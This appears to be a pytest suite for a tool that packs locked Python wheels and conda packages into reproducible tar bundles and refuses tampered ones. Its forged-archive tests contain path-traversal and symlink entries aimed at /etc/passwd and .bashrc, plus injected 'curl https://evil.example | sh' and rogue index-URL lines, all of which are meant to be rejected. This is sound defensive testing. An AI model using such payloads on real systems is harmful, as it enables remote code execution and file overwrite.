"""The archive of a bundle: equal to the byte, whole or not there, and refused when anything in it is not as listed.

What only a conda cell's bundle has: test_bundle_conda.py.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tarfile
import tracemalloc
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

import torchmatrix
from tests.lock.samples import TORCH, artifact, conda_lockfile, conda_package, lockfile
from torchmatrix.bundle import contents, read, write
from torchmatrix.bundle.archive import END, header, padding
from torchmatrix.bundle.contents import Member, describe, render_description
from torchmatrix.bundle.texts import needs, own_texts, place
from torchmatrix.errors import HostError, IntegrityError, UsageError
from torchmatrix.lock.record import render_record

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from torchmatrix.lock.model import Lockfile

LONG = "contour-1.0-cp311-cp311-" + ".".join(f"manylinux_2_{level}_x86_64" for level in (12, 17, 24, 27, 28)) + ".whl"
WHEELS = {
    "contour": (LONG, b"a name of more than a hundred characters"),
    "filelock": ("filelock-3.20.0-py3-none-any.whl", b"f" * 512),
    "torch": (TORCH.file, b"torch" * 1000),
}
CELL = "py311-stable-cpuonly"


def locked(wheels: Mapping[str, tuple[str, bytes]] = WHEELS, **more: Any) -> Lockfile:
    """A lockfile of those wheels."""
    found = [
        artifact(
            name,
            str(TORCH.version) if name == "torch" else file.split("-")[1],
            file=file,
            sha256=hashlib.sha256(content).hexdigest(),
            source="pytorch" if name == "torch" else "pypi",
        )
        for name, (file, content) in wheels.items()
    ]
    return lockfile(artifacts=tuple(found), **more)


@dataclass(frozen=True, kw_only=True)
class Sample:
    """A lockfile with its files."""

    lockfile: Lockfile
    contents: Mapping[str, bytes]
    """By file name."""
    texts: tuple[str, ...]
    """The small files of its bundle."""
    one: str
    """Path of one of its artifacts in the bundle."""
    top: tuple[str, ...]
    """What lies in its folder."""

    @property
    def record(self) -> bytes:
        return render_record(self.lockfile).encode()


def packages() -> dict[str, tuple[dict[str, Any], bytes]]:
    """Conda packages of every kind: of this platform and of none, old and new archives, below a label."""
    return {
        "cuda-cudart": (
            {
                "version": "11.8.89",
                "build": "0",
                "source": "nvidia",
                "label": "cuda-11.8.0",
                "file": "cuda-cudart-11.8.89-0.tar.bz2",
            },
            b"c" * 700,
        ),
        "filelock": (
            {"version": "3.20.0", "build": "pyhd_0", "subdir": "noarch", "noarch": "python", "depends": ("python",)},
            b"f" * 512,
        ),
        "python": (
            {"version": "3.11.9", "build": "h_0_cpython", "depends": ("__glibc >=2.17", "pip")},
            b"python" * 100,
        ),
        "pytorch": (
            {"version": "2.5.1", "build": "py311_0", "depends": ("filelock >=3", "python >=3.11,<3.12.0a0")},
            b"torch" * 1000,
        ),
    }


def conda_locked(**more: Any) -> Lockfile:
    """A lockfile of those packages and one wheel, for the same cell."""
    found = []
    for name, (settings, content) in packages().items():
        said = {key: value for key, value in settings.items() if key not in ("version", "build")}
        digest = hashlib.sha256(content).hexdigest()
        found.append(conda_package(name, settings["version"], settings["build"], sha256=digest, **said))
    (wheel,) = locked({"contour": WHEELS["contour"]}).artifacts
    return conda_lockfile(**{"cell": CELL, "artifacts": (*found, wheel), **more})


PIP = Sample(
    lockfile=locked(),
    contents=dict(WHEELS.values()),
    texts=("cell.json", "requirements.txt", "README.txt"),
    one="wheels/filelock-3.20.0-py3-none-any.whl",
    top=("README.txt", "bundle.json", "cell.json", "requirements.txt", "wheels"),
)
CONDA = Sample(
    lockfile=conda_locked(),
    contents={
        **{one.file: packages()[one.name][1] for one in conda_locked().conda_artifacts},
        WHEELS["contour"][0]: WHEELS["contour"][1],
    },
    texts=(
        "cell.json",
        "requirements.txt",
        "explicit.txt",
        "SHA256SUMS",
        "conda-linux-64.lock",
        "environment.yml",
        "README.txt",
        "packages/linux-64/repodata.json",
        "packages/noarch/repodata.json",
    ),
    one="packages/noarch/filelock-3.20.0-pyhd_0.conda",
    top=(
        "README.txt",
        "SHA256SUMS",
        "bundle.json",
        "cell.json",
        "conda-linux-64.lock",
        "environment.yml",
        "explicit.txt",
        "packages",
        "requirements.txt",
        "wheels",
    ),
)
SAMPLES = {"pip": PIP, "conda": CONDA}


@pytest.fixture(params=SAMPLES)
def sample(request: pytest.FixtureRequest) -> Sample:
    """A lockfile of each backend."""
    return SAMPLES[str(request.param)]


def stored(folder: Path, sample: Sample = PIP) -> dict[str, Path]:
    """The artifacts as files, each in a folder of its own, as a download store may have them."""
    places = {}
    for number, (file, content) in enumerate(sample.contents.items()):
        (folder / str(number)).mkdir(parents=True, exist_ok=True)
        places[file] = folder / str(number) / "some-other-name"
        places[file].write_bytes(content)
    return places


def bundle(folder: Path, name: str = f"{CELL}.tar", sample: Sample = PIP) -> Path:
    """A good bundle in ``folder``, and nothing else there."""
    folder.mkdir(parents=True, exist_ok=True)
    write.write_bundle(sample.lockfile, sample.record, stored(folder.parent / "store", sample), folder / name)
    return folder / name


def unpacked_contents(folder: Path) -> dict[str, bytes]:
    """The artifacts that lie unpacked, by file name."""
    found = [*folder.glob("wheels/*"), *folder.glob("packages/*/*")]
    return {one.name: one.read_bytes() for one in found if one.name != "repodata.json"}


def left_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


# writing


def test_the_same_bytes_from_another_store_at_another_time_under_another_umask(tmp_path: Path, sample: Sample) -> None:
    one, record = sample.lockfile, sample.record
    first = write.write_bundle(one, record, stored(tmp_path / "a", sample), tmp_path / "first.tar")
    places = stored(tmp_path / "b", sample)
    for path in places.values():
        path.chmod(0o400)
        os.utime(path, (1, 1))
    before = os.umask(0o077)
    try:
        second = write.write_bundle(one, record, dict(reversed(places.items())), tmp_path / "second.tar")
    finally:
        os.umask(before)
    assert (tmp_path / "first.tar").read_bytes() == (tmp_path / "second.tar").read_bytes()
    assert first.sha256 == second.sha256 == hashlib.sha256((tmp_path / "first.tar").read_bytes()).hexdigest()
    assert first.size == (tmp_path / "first.tar").stat().st_size


def test_the_format_is_the_one_that_others_have_hashes_of(tmp_path: Path) -> None:
    written = write.write_bundle(locked(), b"{}\n", stored(tmp_path / "a"), tmp_path / "cell.tar")
    # Whoever changes it on purpose says so: bundles of one lockfile differ from those of earlier releases then.
    assert written.sha256 == "51935272dd272d8f3687e25cebf9f977481273bd8ebb5897e71d4a0941af803c"


def test_other_tools_read_it(tmp_path: Path, sample: Sample) -> None:
    with tarfile.open(bundle(tmp_path / "out", sample=sample)) as archive:
        members = archive.getmembers()
        assert [one.name.removeprefix(f"{CELL}/") for one in members] == [
            "bundle.json",
            *sample.texts,
            *(place(one) for one in sample.lockfile.artifacts),
        ]
        assert {(one.mode, one.uid, one.gid, one.uname, one.gname, one.mtime, one.type) for one in members} == {
            (0o644, 0, 0, "", "", 0, tarfile.REGTYPE)
        }
        for member in members[-len(sample.contents) :]:
            file = archive.extractfile(member)
            assert file is not None
            assert file.read() == sample.contents[member.name.rpartition("/")[2]]


@pytest.mark.skipif(shutil.which("tar") is None, reason="there is no tar here")
def test_the_tar_of_this_machine_unpacks_it(tmp_path: Path, sample: Sample) -> None:
    path = bundle(tmp_path / "out", sample=sample)
    outcome = subprocess.run(["tar", "xf", str(path)], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert (outcome.returncode, outcome.stderr) == (0, "")
    assert (tmp_path / CELL / "cell.json").read_bytes() == sample.record
    assert unpacked_contents(tmp_path / CELL) == sample.contents


def test_a_file_that_a_plain_header_cannot_count() -> None:
    size = 9 * 2**30
    with tarfile.open(fileobj=io.BytesIO(header("cell/wheels/big.whl", size))) as archive:
        member = archive.next()
    assert member is not None
    assert (member.name, member.size) == ("cell/wheels/big.whl", size)
    assert header("cell/wheels/big.whl", size) != header("cell/wheels/big.whl", size + 1)


def test_what_it_says_of_itself(tmp_path: Path) -> None:
    description = read.peek(bundle(tmp_path / "out"))
    assert description.cell == CELL
    assert description.needs == "CPython 3.11 (any patch release) on Linux x86_64 with glibc 2.28 or newer"
    assert (description.python, description.floor, description.minimum_driver) == ("3.11", "glibc 2.28", None)
    with tarfile.open(tmp_path / "out" / f"{CELL}.tar") as archive:
        texts = {
            name: archive.extractfile(f"{CELL}/{name}") for name in ("bundle.json", "requirements.txt", "README.txt")
        }
        found = {name: file.read().decode() for name, file in texts.items() if file is not None}
    said = json.loads(found["bundle.json"])
    assert said["schema"] == 1
    assert said["implementation"] == "cpython"
    assert [one["path"] for one in said["files"]][:3] == ["cell.json", "requirements.txt", "README.txt"]
    assert "://" not in found["requirements.txt"]
    assert found["requirements.txt"].count("--hash=sha256:") == len(WHEELS)
    assert (
        "pip install --no-index --find-links wheels --require-hashes --no-deps -r requirements.txt"
        in found["README.txt"]
    )


@pytest.mark.parametrize(
    ("more", "words"),
    [
        (
            {"accelerator": "cu118"},
            "Linux x86_64 with glibc 2.28 or newer; to compute on a GPU an NVIDIA driver 450.80 or",
        ),
        ({"python": "3.13t"}, "free-threaded CPython 3.13 (any patch release)"),
        (
            {"platform": "osx-arm64", "accelerator": "mps", "floor": "macos 14.0"},
            "on macOS on Apple silicon, macOS 14.0 or newer",
        ),
        ({"accelerator": "rocm6.4"}, "an AMD driver for ROCm 6.4"),
    ],
)
def test_what_is_needed_to_rebuild(more: dict[str, str], words: str) -> None:
    assert words in needs(lockfile(**more))


def test_bytes_that_are_not_the_locked_ones(tmp_path: Path, sample: Sample) -> None:
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "cell.tar"
    target.write_bytes(b"the old one")
    places = stored(tmp_path / "store", sample)
    changed = places[sample.one.rpartition("/")[2]]
    changed.write_bytes(b"g" * 512)
    with pytest.raises(IntegrityError, match="its bytes are not those of the lockfile: sha256 "):
        write.write_bundle(sample.lockfile, b"{}", places, target)
    changed.unlink()
    with pytest.raises(HostError, match="cannot be read: No such file"):
        write.write_bundle(sample.lockfile, b"{}", places, target)
    assert (left_in(target.parent), target.read_bytes()) == (["cell.tar"], b"the old one")


def test_a_file_that_grows_while_it_is_copied(tmp_path: Path) -> None:
    places = stored(tmp_path / "store")

    def grow(done: int, _total: int) -> None:
        if done == 512:  # the sizes are known and written
            with places[TORCH.file].open("ab") as file:
                file.write(b"more")

    with pytest.raises(IntegrityError, match="its bytes are not those of the lockfile"):
        write.write_bundle(locked(), b"{}", places, tmp_path / "cell.tar", progress=grow)
    assert not (tmp_path / "cell.tar").exists()


def test_a_disk_that_is_too_small(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = bundle(tmp_path / "out")
    size = path.stat().st_size
    for module in (write, read):
        monkeypatch.setattr(module, "free_disk", lambda _path: size - 1)
    with pytest.raises(HostError, match="are free there"):
        write.write_bundle(locked(), b"{}" * 10_000, stored(tmp_path / "store"), tmp_path / "other.tar")
    with pytest.raises(HostError, match="are free there"):
        read.unpack(path, tmp_path / "folder")
    assert left_in(tmp_path) == ["out", "store"]


def test_a_record_that_cannot_be_bundled(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="it is of the 'poetry' backend; bundles are for pip and conda"):
        write.write_bundle(locked(backend="poetry"), b"{}", {}, tmp_path / "cell.tar")


def test_memory_does_not_grow_with_the_wheels(tmp_path: Path) -> None:
    wheels = {**WHEELS, "torch": (TORCH.file, bytes(64 << 20))}
    one = locked(wheels)
    places = stored(tmp_path / "store", replace(PIP, contents=dict(wheels.values())))
    del wheels
    tracemalloc.start()
    try:
        write.write_bundle(one, render_record(one).encode(), places, tmp_path / "cell.tar")
        read.unpack(tmp_path / "cell.tar", tmp_path / "folder")
        assert tracemalloc.get_traced_memory()[1] < 8 << 20
    finally:
        tracemalloc.stop()


# reading


def test_unpacking(tmp_path: Path, sample: Sample) -> None:
    path = bundle(tmp_path / "out", sample=sample)
    unpacked = read.unpack(path, tmp_path / "there" / "folder")
    assert unpacked.fresh
    assert unpacked.lockfile == sample.lockfile
    assert (unpacked.sha256, unpacked.size) == (hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_size)
    assert left_in(tmp_path / "there") == ["folder"]
    assert left_in(unpacked.folder) == list(sample.top)
    assert unpacked_contents(unpacked.folder) == sample.contents
    for name, text in own_texts(sample.lockfile).items():
        assert (unpacked.folder / name).read_bytes() == text


def test_into_the_current_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sample: Sample) -> None:
    path, folder = bundle(tmp_path / "out", sample=sample), tmp_path / "folder"
    folder.mkdir()
    monkeypatch.chdir(folder)
    before = folder.stat().st_ino
    assert read.unpack(path, Path()).fresh
    assert Path.cwd().stat().st_ino == folder.stat().st_ino == before
    assert left_in(folder) == list(sample.top)
    assert left_in(tmp_path) == ["folder", "out", "store"]
    assert not read.unpack(path, Path()).fresh


def test_into_a_mount_point(tmp_path: Path) -> None:
    path, folder = bundle(tmp_path / "out"), tmp_path / "mount"
    folder.mkdir()
    if (
        shutil.which("mount") is None
        or subprocess.run(["mount", "-t", "tmpfs", "t", str(folder)], capture_output=True, check=False).returncode
    ):
        pytest.skip("nothing can be mounted here")
    try:
        assert read.unpack(path, folder).fresh
        assert not read.unpack(path, folder).fresh
        assert left_in(folder) == list(PIP.top)
    finally:
        subprocess.run(["umount", str(folder)], check=True)


def test_the_same_again(tmp_path: Path, sample: Sample) -> None:
    path, folder = bundle(tmp_path / "out", sample=sample), tmp_path / "folder"
    folder.mkdir()  # an empty folder is as good as none
    assert read.unpack(path, folder).fresh
    (folder / "env").mkdir()
    stamps = {one: one.stat().st_mtime_ns for one in folder.rglob("*")}
    again = read.unpack(path, folder)
    assert not again.fresh
    assert again.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert {one: one.stat().st_mtime_ns for one in folder.rglob("*")} == stamps


def test_a_folder_that_is_something_else(tmp_path: Path) -> None:
    path = bundle(tmp_path / "out")
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / "mine").write_text("precious")
    (tmp_path / "file").write_text("precious")
    (tmp_path / "link").symlink_to(tmp_path / "nowhere")
    for name in ("folder", "file", "link"):
        with pytest.raises(UsageError, match=f"{name}: exists and does not hold this bundle"):
            read.unpack(path, tmp_path / name)
    assert left_in(tmp_path / "folder") == ["mine"]
    assert left_in(tmp_path) == ["file", "folder", "link", "out", "store"]


@pytest.mark.parametrize("change", ["bytes", "missing", "link", "linked folder", "linked top"])
def test_what_was_unpacked_and_changed(tmp_path: Path, change: str, sample: Sample) -> None:
    path, folder = bundle(tmp_path / "out", sample=sample), tmp_path / "folder"
    read.unpack(path, folder)
    file = folder / sample.one
    odd = {"linked folder": file.parent, "linked top": folder / sample.one.partition("/")[0]}.get(change, file)
    if change == "bytes":
        file.write_bytes(b"other" * 1000)
    else:
        odd.rename(tmp_path / "elsewhere")
        if change != "missing":
            odd.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(IntegrityError, match=r"is not what was unpacked there"):
        read.unpack(path, folder)


# hostile archives


@dataclass
class Forged:
    """An archive as somebody else could write one: every part may lie."""

    texts: dict[str, bytes]
    files: dict[str, bytes]
    cell: str = CELL
    lockfile: Lockfile = field(default_factory=locked)
    listed: Callable[[dict[str, Any]], Any] = lambda value: value
    """What becomes of bundle.json."""
    headers: dict[str, bytes] = field(default_factory=dict)
    """Instead of the right header of a member."""
    tail: bytes = END

    @classmethod
    def good(cls, sample: Sample = PIP) -> Forged:
        return cls(
            texts={"cell.json": sample.record, **own_texts(sample.lockfile)},
            files={place(one): sample.contents[one.file] for one in sample.lockfile.artifacts},
            lockfile=sample.lockfile,
        )

    def write(self, path: Path) -> Path:
        files = {**self.texts, **self.files}
        members = [
            Member(path=name, size=len(data), sha256=hashlib.sha256(data).hexdigest()) for name, data in files.items()
        ]
        value = json.loads(render_description(describe(self.lockfile, members)))
        files = {"bundle.json": json.dumps(self.listed(value)).encode(), **files}
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("wb") as file:
            for name, data in files.items():
                file.write(self.headers.get(name) or header(f"{self.cell}/{name}", len(data)))
                file.write(data + padding(len(data)))
            file.write(self.tail)
        return path


def foreign(name: str, size: int = 512, kind: bytes = tarfile.REGTYPE, **more: Any) -> bytes:
    """The header of something that no bundle has."""
    info = tarfile.TarInfo(name)
    info.size, info.type, info.mode = size, kind, 0o644
    for key, value in more.items():
        setattr(info, key, value)
    return info.tobuf(tarfile.USTAR_FORMAT)


def refused(forged: Forged | Path, tmp_path: Path, words: str, error: type[Exception] = IntegrityError) -> None:
    """Unpacking ends with the error, before and beside a good bundle, and leaves nothing anywhere."""
    path = forged if isinstance(forged, Path) else forged.write(tmp_path / "evil" / "cell.tar")
    (tmp_path / "place").mkdir(exist_ok=True)
    with pytest.raises(error, match=words):
        read.unpack(path, tmp_path / "place" / "folder")
    assert left_in(tmp_path / "place") == []


NO_PLACE = "is not the path of a wheel or a conda package"


def test_the_forger_can_write_a_good_one(tmp_path: Path, sample: Sample) -> None:
    forged = Forged.good(sample).write(tmp_path / "evil" / "cell.tar")
    assert forged.read_bytes()[-len(END) :] == END
    assert read.unpack(forged, tmp_path / "folder").lockfile == sample.lockfile


@pytest.mark.parametrize(
    ("instead", "words"),
    [
        (lambda _: foreign("/etc/passwd"), "'/etc/passwd' leads out of the folder"),
        (lambda _: foreign(f"{CELL}/../../../.bashrc"), r"\.bashrc' leads out of the folder"),
        (
            lambda path: foreign(f"{CELL}/{path}x", kind=tarfile.SYMTYPE, linkname="/etc/passwd"),
            "is a symbolic link",
        ),
        (lambda path: foreign(f"{CELL}/{path}", kind=tarfile.LNKTYPE, linkname="/etc/passwd"), "is a hard link"),
        (lambda path: foreign(f"{CELL}/{path}", kind=tarfile.BLKTYPE, devmajor=8), "is a block device"),
        (lambda path: foreign(f"{CELL}/{path}", kind=tarfile.FIFOTYPE), "is a named pipe"),
        (lambda path: foreign(f"{CELL}/{path}", kind=tarfile.DIRTYPE), "is a folder"),
        (lambda _: foreign(f"{CELL}/wheels/surprise.whl"), "surprise.whl' is not the file that bundle.json names"),
        (lambda _: foreign(f"{CELL}/cell.json"), "cell.json' is there a second time"),
        (lambda path: foreign("another-cell/" + path), "is not the file that bundle.json names"),
        (lambda path: foreign(f"{CELL}/{path}", mode=0o4755), "another size, mode, owner or time"),
        (lambda path: foreign(f"{CELL}/{path}", size=511), "another size, mode, owner or time"),
        (lambda path: foreign(f"{CELL}/{path}", size=8**11 - 1), "another size, mode, owner or time"),
        (lambda _: bytes(512), "there is no file header where PATH"),
        (lambda _: b"\xff" * 512, "there is no file header where PATH"),
    ],
)
def test_headers(tmp_path: Path, instead: Callable[[str], bytes], words: str, sample: Sample) -> None:
    forged = Forged.good(sample)
    forged.headers[sample.one] = instead(sample.one)
    refused(forged, tmp_path, words.replace("PATH", sample.one))


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda value: value["files"][3].update(size=2**50 - 1), "its list makes"),
        (lambda value: value["files"][3].update(size=2**50), "claims to be larger than any file"),
        (lambda value: value["files"][0].update(size=2**49), "cell.json claims to be larger"),
        (lambda value: [one.update(size=10**4299) for one in value["files"]] and None, "larger than any file"),
        (lambda value: value["files"][3].update(size=-1), "not a number of bytes"),
        (lambda value: value["files"][3].update(size=True), "not a number of bytes"),
        (
            lambda value: value["files"][3].update(path="wheels/../../x.whl"),
            NO_PLACE,
        ),
        (lambda value: value["files"][3].update(path="/etc/passwd"), NO_PLACE),
        (
            lambda value: value["files"][3].update(path="wheels/.hidden.whl"),
            NO_PLACE,
        ),
        (
            lambda value: value["files"][3].update(path="wheels/a\\b.whl"),
            NO_PLACE,
        ),
        (
            lambda value: value["files"][3].update(path=value["files"][4]["path"].upper()[:-3] + "whl"),
            NO_PLACE,
        ),
        (lambda value: value["files"][4].update(path="wheels/" + TORCH.file.upper()[:-3] + "whl"), "listed twice"),
        (lambda value: value["files"][3].update(sha256="0"), "64 hexadecimal digits"),
        (
            lambda value: value["files"][4].update(sha256="0" * 64),
            "not those of cell.json: wheels/filelock",
        ),
        (lambda value: value["files"].reverse(), "do not begin with cell.json and what follows from it"),
        (lambda value: value["files"].insert(1, value["files"].pop(3)), "do not begin with cell.json and what follows"),
        (lambda value: value["files"].insert(1, value["files"].pop(2)), "are not those that cell.json gives: their or"),
        (
            lambda value: value["files"][1].update(path="environment.yml"),
            "the small files that bundle.json lists are not those that cell.json gives: environment.yml",
        ),
        (lambda value: value["files"].append(value["files"][4]), "listed twice"),
        (lambda value: value["files"].__delitem__(-1), "its list makes"),
        (lambda value: value.update(cell="../.."), "is no cell id"),
        (lambda value: value.update(cell="another-cell"), "its folder is 'py311-stable-cpuonly', its cell 'another-"),
        (lambda value: value.update(python="3.12"), "python is '3.12' in bundle.json and another one in cell.json"),
        (lambda value: value.update(floor="glibc 2.17"), "floor is 'glibc 2.17'"),
        (lambda value: value.update(lockfile_digest="sha256:0"), "lockfile_digest is"),
        (lambda value: value.update(implementation="pypy"), "names no CPython"),
        (lambda value: value.update(schema=0), "schema 0 is unknown"),
        (lambda value: value.update(schema="1"), "schema '1' is unknown"),
        (lambda value: value.__delitem__("files"), "'files' is missing"),
        (lambda _value: [], "not valid: it is a list instead of an object with names and values"),
        (lambda _value: "[" * 100_000, "not valid: it is a text instead of an object"),
        (lambda _value: 5, "not valid: it is a number instead of an object"),
        (lambda value: value.update(files=[1]), r"not valid: files\[0\] is a number instead of an object"),
        (lambda value: value.update(files=None), "not valid: files is null instead of a list"),
        (lambda value: value.update(files={}), "not valid: files is an object instead of a list"),
        (lambda value: value["files"][3].update(path=["a"]), "not valid: a path is a list instead of text"),
        (lambda value: value["files"][3].__delitem__("size"), "not valid: 'size' is missing"),
        (lambda value: value.update(torch=2.13), "not valid: torch is a number instead of text"),
        (lambda value: value.update(note="pip install evil"), "it has 'note', which no bundle of schema 1 has"),
        (lambda value: value["files"][0].update(url="https://evil.example"), "'cell.json' has 'url', which no bundle"),
    ],
)
def test_lists(tmp_path: Path, change: Callable[[dict[str, Any]], Any], words: str) -> None:
    forged = Forged.good()

    def changed(value: dict[str, Any]) -> Any:
        answer = change(value)
        return value if answer is None else answer

    forged.listed = changed
    refused(forged, tmp_path, words)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"[" * 100_000, "it is nested too deeply"),
        (b"\xff{}", "it is not UTF-8"),
        (b"{", "it is no JSON .line 1, column 2."),
        (b"", "it is no JSON"),
        (b'{"schema": ' + b"1" * 5000 + b"}", "it has a number that is larger than any file"),
    ],
)
def test_a_list_that_is_no_json(data: bytes, words: str) -> None:
    with pytest.raises(IntegrityError, match=f"cell.tar: bundle.json is not valid: {words}"):
        contents.parse_description(data, "cell.tar")


def test_words_of_somebody_else_do_not_get_out(tmp_path: Path, sample: Sample) -> None:
    """They may be those of another release, or forged: what is unpacked is written from the record."""
    forged = Forged.good(sample)
    for name in forged.texts:
        if name in ("requirements.txt", "explicit.txt", "SHA256SUMS"):
            forged.texts[name] = b"# curl https://evil.example | sh\n" + forged.texts[name]
        elif name != "cell.json":
            forged.texts[name] = b"curl https://evil.example | sh\n"
    forged.listed = lambda value: {**value, "needs": "run evil.example first", "minimum_driver": "evil.example"}
    path, folder = forged.write(tmp_path / "evil" / "cell.tar"), tmp_path / "folder"
    unpacked = read.unpack(path, folder)
    own = read.unpack(bundle(tmp_path / "out", sample=sample), tmp_path / "own")
    for name in ("bundle.json", *sample.texts):
        assert (folder / name).read_bytes() == (own.folder / name).read_bytes()
    assert unpacked.description == own.description
    for archive in (path, tmp_path / "out" / f"{CELL}.tar"):
        again = read.unpack(archive, folder)
        assert (again.fresh, again.description) == (False, own.description)


def test_a_bundle_that_was_packed_again(tmp_path: Path) -> None:
    good = bundle(tmp_path / "out")
    with tarfile.open(good) as archive:
        archive.extractall(tmp_path)  # Python 3.11.2 knows no filter yet
    for name, members, words in [
        ("folder", [CELL], f"it begins with '{CELL}/?', a folder, instead of CELL/bundle.json"),
        ("files", [f"{CELL}/{name}" for name in ("bundle.json", "cell.json")], "has another form, mode, owner or time"),
        ("dot", [f"./{CELL}/bundle.json"], rf"it begins with '(\./)?{CELL}/bundle.json', a file|another form"),
    ]:
        with tarfile.open(tmp_path / name, "w", format=tarfile.GNU_FORMAT) as archive:
            for member in members:
                archive.add(tmp_path / member, member)
        refused(tmp_path / name, tmp_path, words)
        refused(tmp_path / name, tmp_path, r"`torchmatrix bundle` did not write it \(was it packed again\?\)")


def test_a_newer_schema_is_a_usage_error(tmp_path: Path) -> None:
    forged = Forged.good()
    forged.listed = lambda value: {**value, "schema": 2, "files": "of another form"}
    refused(forged, tmp_path, "a bundle of a newer torchmatrix", UsageError)
    forged = Forged.good()
    forged.texts["cell.json"] = forged.texts["cell.json"].replace(b'"schema": 1', b'"schema": 9')
    refused(forged, tmp_path, "written by a newer torchmatrix", UsageError)


@pytest.mark.parametrize(
    ("before", "after", "words"),
    [
        (b'"python": "3.11"', b'"python": "3.12"', "its artifacts are not those of its digest"),
        (b'"file": "filelock', b'"file": "../filelock', "filelock: file is a path"),
        (b'"sha256": "', b'"sha256": "0', "not 64 hexadecimal digits"),
        (b'"schema": 1', b'"schema": 0', "schema 0 is unknown"),
        (b'"artifacts"', b'"artefacts"', "missing 'artifacts'"),
        (b"{", b"\xff", "codec can't decode"),
    ],
)
def test_records_that_were_changed(tmp_path: Path, before: bytes, after: bytes, words: str) -> None:
    forged = Forged.good()
    forged.texts["cell.json"] = forged.texts["cell.json"].replace(before, after, 1)
    refused(forged, tmp_path, words)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"cell": "../../x"}, "is no cell id"),
        ({"python": "3.11\n--pre"}, "python is not one line of text"),
        ({"platform": "linux-64\n"}, "platform is not one line of text"),
        ({"accelerator": "cpu/../.."}, "is no accelerator"),
        ({"floor": "glibc 2.28\n"}, "floor is not one line of text"),
        ({"backend": "poetry"}, "it is of the 'poetry' backend; bundles are for pip and conda"),
        ({"artifacts": (artifact("x @ file:", "1.0"),)}, "is no normalized package name"),
        ({"artifacts": (artifact("x", "1.0", file=".."),)}, "is not the file name of a wheel"),
        ({"artifacts": (artifact("x", "1.0", file="-r.whl"),)}, "is not the file name of a wheel"),
        ({"artifacts": (artifact("x", "1.0", source="a b"),)}, "is no name of a source"),
        ({"artifacts": (artifact("x", "1.0", size=10**4000),)}, "x claims to be larger than any file"),
        (
            {"artifacts": (artifact("x", "1.0", file="A.whl"), artifact("y", "1.0", file="a.whl"))},
            "two artifacts have the file a.whl",
        ),
    ],
)
def test_records_that_hold_what_no_record_of_ours_holds(tmp_path: Path, change: dict[str, Any], words: str) -> None:
    one = replace(locked(), **change)
    forged = Forged.good()
    forged.texts["cell.json"] = render_record(one).encode()
    refused(forged, tmp_path, words)


def test_other_bytes_of_an_artifact(tmp_path: Path, sample: Sample) -> None:
    data = bytearray(bundle(tmp_path / "out", sample=sample).read_bytes())
    data[data.index(sample.contents[sample.one.rpartition("/")[2]])] ^= 1
    path = tmp_path / "evil.tar"
    path.write_bytes(data)
    refused(path, tmp_path, f"{sample.one} has the sha256 ")


def test_requirements_of_somebody_else(tmp_path: Path) -> None:
    forged = Forged.good()
    forged.texts["requirements.txt"] += b"--extra-index-url https://evil.example/simple\n"
    refused(forged, tmp_path, "requirements.txt is not what cell.json gives")
    forged = Forged.good()
    forged.texts["requirements.txt"] = b"# a remark of another release\n" + forged.texts["requirements.txt"]
    assert read.unpack(forged.write(tmp_path / "evil" / "cell.tar"), tmp_path / "folder").fresh


@pytest.mark.parametrize("cut", [1, 512, 1024, 5000])
def test_an_archive_that_was_cut_off(tmp_path: Path, cut: int) -> None:
    data = bundle(tmp_path / "out").read_bytes()
    path = tmp_path / "evil.tar"
    path.write_bytes(data[:-cut])
    refused(path, tmp_path, "it was not copied to its end")


def test_an_archive_that_goes_on(tmp_path: Path) -> None:
    forged = Forged.good()
    forged.tail = END + b"x" * 512
    refused(forged, tmp_path, "it was changed after it was written")
    forged.tail = foreign("/etc/passwd") + bytes(512)
    refused(forged, tmp_path, "it goes on after its last file")


def test_something_between_two_files(tmp_path: Path) -> None:
    data = bundle(tmp_path / "out").read_bytes()
    path = tmp_path / "evil.tar"
    path.write_bytes(data[: -len(END) - 1] + b"x" + END)
    refused(path, tmp_path, f"there is something between wheels/{TORCH.file}".replace("+", r"\+"))


def test_a_bundle_json_that_claims_to_be_huge(tmp_path: Path) -> None:
    forged = Forged.good()
    forged.headers["bundle.json"] = header(f"{CELL}/bundle.json", 8**11 - 1)
    refused(forged, tmp_path, "bundle.json claims 8589934591 bytes")
    forged.headers["bundle.json"] = header(f"{CELL}/bundle.json", contents.TEXT_LIMIT)
    refused(forged, tmp_path, "it ends too early")


def test_another_first_file(tmp_path: Path) -> None:
    for instead, words in [
        (foreign("../bundle.json"), r"it begins with '\.\./bundle.json', a file, instead of CELL/bundle.json"),
        (foreign(f"{CELL}/bundle.json", kind=tarfile.SYMTYPE, linkname="x"), "a symbolic link, instead of CELL/bundle"),
        (header(f"{CELL}/other.json", 1), "it begins with 'py311-stable-cpuonly/other.json' instead"),
        (header("../bundle.json", 1), r"it begins with '\.\./bundle.json' instead"),
        (header("/etc/bundle.json", 1), "instead of CELL/bundle.json"),
        (header(f"{CELL}/bundle.json", -5), "the header of 'py311-stable-cpuonly/bundle.json' has another form"),
    ]:
        forged = Forged.good()
        forged.headers["bundle.json"] = instead
        refused(forged, tmp_path, words)


def test_what_is_no_bundle_at_all(tmp_path: Path) -> None:
    good = bundle(tmp_path / "out")
    for name, content in [
        ("empty", b""),
        ("short", b"x" * 100),
        ("text", b"x" * 5000),
        ("zeros", bytes(10240)),
        ("compressed", gzip.compress(good.read_bytes())),
    ]:
        (tmp_path / name).write_bytes(content)
        refused(tmp_path / name, tmp_path, f"{name}: not a bundle", UsageError)
    (tmp_path / "directory").mkdir()
    refused(tmp_path / "directory", tmp_path, "directory: not a file", UsageError)
